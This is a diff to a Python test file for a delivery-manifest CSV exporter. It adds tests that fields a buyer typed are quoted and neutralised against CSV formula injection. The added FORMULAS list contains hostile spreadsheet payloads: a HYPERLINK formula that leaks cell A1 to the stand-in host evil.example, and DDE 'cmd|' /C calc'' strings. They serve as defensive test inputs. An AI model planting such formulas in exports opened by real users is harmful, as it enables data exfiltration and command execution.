@@ -17,6 +17,7 @@ from hypothesis import strategies as st
 
 from delivery.manifests import (
     CSV_COLUMNS,
+    TYPED_COLUMNS,
     csv_document,
     csv_header,
     csv_rows,
@@ -25,6 +26,7 @@ from delivery.manifests import (
     json_prefix,
     json_suffix,
     render_manifest_pdf,
+    spreadsheet_safe,
 )
 from delivery.s10 import make_tracking_number
 
@@ -63,8 +65,8 @@ def test_header_is_exactly_formats_md() -> None:
 def test_a_row_as_text() -> None:
     text = "".join(csv_rows([row()]))
     assert text == (
-        "M2025030100001,RR473124829CN,440125000001,00000001,张三,+8613800138000,天河区体育西路191号,"
-        "广州市,广东省,510620,CN,2025-03-01T08:30:05.123000Z\r\n"
+        'M2025030100001,RR473124829CN,440125000001,00000001,"张三",+8613800138000,"天河区体育西路191号",'
+        '"广州市","广东省","510620","CN",2025-03-01T08:30:05.123000Z\r\n'
     )
 
 
@@ -97,7 +99,31 @@ def test_csv_reads_back_to_the_input(items: list[dict[str, str]]) -> None:
     rows = [{**item, "created_at": CREATED} for item in items]
     parsed = parse(csv_header() + "".join(csv_rows(rows, chunk_rows=2)))
     assert parsed[0] == list(CSV_COLUMNS)
-    assert parsed[1:] == [[*(r[n] for n in CSV_COLUMNS[:-1]), "2025-03-01T08:30:05.123000Z"] for r in rows]
+    shown = [{n: spreadsheet_safe(v) if n in TYPED_COLUMNS else v for n, v in r.items()} for r in rows]
+    assert parsed[1:] == [[*(r[n] for n in CSV_COLUMNS[:-1]), "2025-03-01T08:30:05.123000Z"] for r in shown]
+
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "+1+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+@pytest.mark.parametrize("formula", FORMULAS)
+def test_a_typed_cell_that_starts_a_formula_is_text_in_a_spreadsheet(formula: str) -> None:
+    """OWASP CSV Injection: what a buyer typed comes out quoted, behind a single quote, in every typed column;
+    read back, the cell is the typed text with that quote in front and nothing else changed."""
+    typed = dict.fromkeys(TYPED_COLUMNS, formula)
+    text = "".join(csv_rows([row(**typed)]))
+    [cells] = parse(text)
+    for name in TYPED_COLUMNS:
+        assert cells[CSV_COLUMNS.index(name)] == "'" + formula
+    assert "\"'" + formula.replace('"', '""') + '"' in text  # the neutralised field stays quoted
+    assert cells[CSV_COLUMNS.index("phone")] == "+8613800138000"  # an E.164 phone is a number, not a formula
 
 
 @given(st.lists(st.fixed_dictionaries({"recipient": awkward, "phone": st.none() | awkward}), max_size=5))
